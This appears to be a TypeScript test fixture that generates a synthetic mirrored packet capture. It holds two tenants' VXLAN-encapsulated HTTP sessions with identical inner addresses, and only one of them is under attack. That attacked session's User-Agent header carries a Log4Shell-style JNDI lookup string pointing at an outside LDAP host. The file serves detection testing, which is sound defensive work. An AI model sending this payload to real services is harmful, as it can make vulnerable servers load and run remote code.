/**
 * mirrored.pcap: what a mirror target receives. Two sessions (VNI 4711 and 4712) of two tenants with the same addresses
 * and ports inside, at the same time; only the second is under attack. The two must be two flows.
 */
import { httpRequest, httpResponse } from '../application-messages.js';
import { ethernet, internetChecksum, ipv4, udp, vxlan } from '../packet-builder.js';
import { Recording, type TimedFrame } from '../recording.js';
import { ATTACKER, WEB } from './actors.js';

const TARGET = '10.200.0.200';
const TENANTS = [
  {
    vni: 4711,
    source: '10.200.1.11',
    request: httpRequest('GET /item?id=7'),
    response: httpResponse('200 OK', '<html>a cup</html>'),
  },
  {
    vni: 4712,
    source: '10.200.2.22',
    request: httpRequest('GET /', { headers: { 'User-Agent': '${jndi:ldap://203.0.113.66:1389/x}' } }),
    response: httpResponse('200 OK', 'ok'),
  },
] as const;

/** As an interface mirrors: outer source port from a hash of the inner addresses and ports, outer checksum 0. */
function mirror({ timeUs, bytes }: TimedFrame, vni: number, source: string, identification: number): TimedFrame {
  const hash = internetChecksum(bytes.subarray(26, 38)) & 0x7f;
  const outer = udp({ srcPort: 65408 + hash, dstPort: 4789, checksum: 0 }, vxlan({ vni }, bytes));
  const packet = ipv4({ src: source, dst: TARGET, id: identification, flags: 2 }, outer);
  return { timeUs, bytes: ethernet({ src: '02:00:0a:c8:00:01', dst: '02:00:0a:c8:00:c8' }, packet) };
}

export function mirrored(): Recording {
  const recording = new Recording();
  const frames = TENANTS.flatMap(({ vni, source, request, response }, tenant) => {
    const inner = new Recording(Date.UTC(2026, 10, 22, 9, 0, 0) * 1000 + 150 * tenant);
    inner.tcp(`${ATTACKER}:50444`, `${WEB}:80`).open().client(request).server(response).close();
    return inner.frames.map((frame, i) => mirror(frame, vni, source, 0x4000 * (tenant + 1) + i));
  });
  recording.frames.push(...frames.toSorted((a, b) => a.timeUs - b.timeUs));
  return recording;
}
